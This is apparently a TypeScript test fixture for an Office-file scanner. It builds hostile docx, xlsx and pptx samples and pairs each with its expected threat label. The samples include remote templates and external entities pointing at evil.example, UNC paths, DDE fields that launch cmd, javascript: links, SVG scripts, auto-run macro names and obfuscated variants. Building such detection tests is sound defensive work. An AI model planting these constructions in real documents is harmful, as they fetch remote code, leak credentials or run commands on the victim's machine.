import { body, entity, field, type Hostile, macros, microsoft, wide, withRelation } from './hostile-parts.ts'
import { officeFile, openXml, xml } from './office-files.ts'
import { packZip } from './zip-files.ts'

/** Documents of Office since 2007 with links, entities and scripts. */
export const linkedDocuments: Hostile[] = [
  ['docx with an entity', () => officeFile('docx', { main: entity }), 'file_deceptive'],
  [
    'docx with an entity in 16 bits',
    () => officeFile('docx', { parts: [{ name: 'word/styles.xml', data: wide(entity) }] }),
    'file_deceptive',
  ],
  [
    'docx with a document type',
    () =>
      officeFile('docx', {
        parts: [{ name: 'docProps/app.xml', data: '<!doctype x SYSTEM "http://evil.example/x.dtd"><x/>' }],
      }),
    'file_deceptive',
  ],
  [
    'docx with an entity in its list of parts',
    () =>
      packZip([
        { name: '[Content_Types].xml', data: entity },
        { name: 'word/document.xml', data: body('') },
      ]),
    'file_deceptive',
  ],
  [
    'docx in an encoding that hides its text',
    () => officeFile('docx', { main: '<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-' }),
    'file_deceptive',
  ],
  [
    'docx with an entity in its references',
    () => officeFile('docx', { parts: [{ name: 'word/_rels/x.xml.rels', data: entity }] }),
    'file_deceptive',
  ],
  [
    'docx with a template from the web',
    () =>
      withRelation('docx', {
        type: 'attachedTemplate',
        target: 'https://evil.example/a.dotm',
        elsewhere: true,
      }),
    'file_linked',
  ],
  [
    'docx with a template in disguise',
    () =>
      withRelation('docx', {
        type: 'attachedTemplate',
        target: '&#104;ttps://evil.example/a.dotm',
        elsewhere: true,
      }),
    'file_linked',
  ],
  [
    'docx with a template of another machine',
    () =>
      withRelation('docx', {
        type: 'attachedTemplate',
        target: 'file:///\\\\evil.example\\share\\a.dotm',
        elsewhere: true,
      }),
    'file_linked',
  ],
  [
    'docx with a linked object of the web',
    () =>
      withRelation('docx', {
        type: 'oleObject',
        target: 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html',
        elsewhere: true,
      }),
    'file_linked',
  ],
  [
    'docx with a frame of the web',
    () => withRelation('docx', { type: 'frame', target: 'https://evil.example/a.html', elsewhere: true }),
    'file_linked',
  ],
  [
    'docx with a picture of another machine',
    () => withRelation('docx', { type: 'image', target: '\\\\evil.example\\a.png', elsewhere: true }),
    'file_linked',
  ],
  [
    'docx with a document of the web',
    () =>
      withRelation('docx', { type: 'subDocument', target: 'https://evil.example/a.docx', elsewhere: true }),
    'file_linked',
  ],
  [
    'docx with a field that starts a program',
    () => officeFile('docx', { main: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') }),
    'file_linked',
  ],
  [
    'docx with such a field in parts',
    () => officeFile('docx', { main: field(' DD', 'E', ' cmd "/k calc"') }),
    'file_linked',
  ],
  [
    'docx with such a field in one tag',
    () => officeFile('docx', { main: body('<w:fldSimple w:instr=" DDE cmd &quot;x&quot; "/>') }),
    'file_linked',
  ],
  [
    'docx with such a field in its footer',
    () => officeFile('docx', { parts: [{ name: 'word/footer1.xml', data: field('DDE cmd x') }] }),
    'file_linked',
  ],
  [
    'docx with a text of the web',
    () => officeFile('docx', { main: field(' INCLUDETEXT "https://evil.example/a.docx"') }),
    'file_linked',
  ],
  [
    'docx with a link that is a script',
    () => withRelation('docx', { type: 'hyperlink', target: 'javascript:alert(1)', elsewhere: true }),
    'file_scripts',
  ],
  [
    'docx with an add-in',
    () =>
      withRelation('docx', {
        type: 'http://schemas.microsoft.com/office/2011/relationships/webextension',
        target: 'webextension1.xml',
      }),
    'file_scripts',
  ],
  [
    'docx with a scripted drawing',
    () =>
      officeFile('docx', {
        defaults: { svg: 'image/svg+xml' },
        parts: [
          {
            name: 'word/media/a.svg',
            data: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
          },
        ],
      }),
    'file_scripts',
  ],
  [
    'docx with a drawing that acts when it loads',
    () =>
      officeFile('docx', {
        defaults: { svg: 'image/svg+xml' },
        parts: [
          { name: 'word/media/a.svg', data: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' },
        ],
      }),
    'file_scripts',
  ],
  [
    'xlsx with a sheet of macros',
    () =>
      officeFile('xlsx', {
        parts: [{ name: 'xl/macrosheets/sheet1.xml', data: `${xml}<xm:macrosheet xmlns:xm="x"/>` }],
      }),
    'file_macros',
  ],
  [
    'xlsx with a reference to a sheet of macros',
    () => withRelation('xlsx', { type: `${microsoft}/xlMacrosheet`, target: 'worksheets/sheet2.xml' }),
    'file_macros',
  ],
  [
    'xlsx that declares a sheet of macros',
    () =>
      officeFile('xlsx', {
        overrides: { '/xl/worksheets/sheet9.xml': 'application/vnd.ms-excel.intlmacrosheet+xml' },
      }),
    'file_macros',
  ],
  [
    'xlsx with a name that runs at the start',
    () =>
      officeFile('xlsx', {
        main: '<workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>',
      }),
    'file_macros',
  ],
  [
    'xlsx with a dialog sheet',
    () =>
      officeFile('xlsx', { parts: [{ name: 'xl/dialogsheets/sheet1.xml', data: `${xml}<dialogsheet/>` }] }),
    'file_macros',
  ],
  [
    'xlsx that starts a program',
    () =>
      officeFile('xlsx', {
        parts: [
          {
            name: 'xl/externalLinks/externalLink1.xml',
            data: `${xml}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
          },
        ],
      }),
    'file_linked',
  ],
  [
    'xlsx that loads data when it is opened',
    () =>
      officeFile('xlsx', {
        parts: [
          {
            name: 'xl/connections.xml',
            data: `${xml}<connections><connection id="1" name="x" type="4" refreshOnLoad="1"/></connections>`,
          },
        ],
      }),
    'file_linked',
  ],
  [
    'xlsx with a program behind much data',
    () =>
      officeFile('xlsx', {
        parts: [
          {
            name: 'xl/worksheets/sheet1.xml',
            data: `${xml}<worksheet>${'<c><v>1</v></c>'.repeat(30_000)}<x:ddeLink/></worksheet>`,
          },
        ],
      }),
    'file_linked',
  ],
  [
    'pptx with a shape that runs a macro',
    () =>
      officeFile('pptx', {
        parts: [
          {
            name: 'ppt/slides/slide1.xml',
            data: `${xml}<p:sld><a:hlinkClick action="ppaction://macro?name=x"/></p:sld>`,
          },
        ],
      }),
    'file_macros',
  ],
  [
    'pptx with a shape that runs a program',
    () =>
      officeFile('pptx', {
        parts: [
          {
            name: 'ppt/slides/slide1.xml',
            data: `${xml}<p:sld><a:hlinkMouseOver action="ppaction://program"/></p:sld>`,
          },
        ],
      }),
    'file_scripts',
  ],
  [
    'pptx whose chart has a workbook with macros',
    () =>
      officeFile('pptx', {
        defaults: { xlsx: `${openXml}.spreadsheetml.sheet` },
        parts: [
          {
            name: 'ppt/embeddings/a.xlsx',
            data: officeFile('xlsx', { parts: [{ name: 'xl/vbaProject.bin', data: macros }] }),
          },
        ],
      }),
    'file_macros',
  ],
  [
    'pptx with an object',
    () =>
      officeFile('pptx', {
        parts: [{ name: 'ppt/slides/slide1.xml', data: `${xml}<p:sld><p:oleObj progId="Package"/></p:sld>` }],
      }),
    'file_embedded',
  ],
  [
    'package of an unknown kind',
    () =>
      packZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'other/thing.xml', data: '<x/>' },
      ]),
    'file_unsupported',
  ],
]
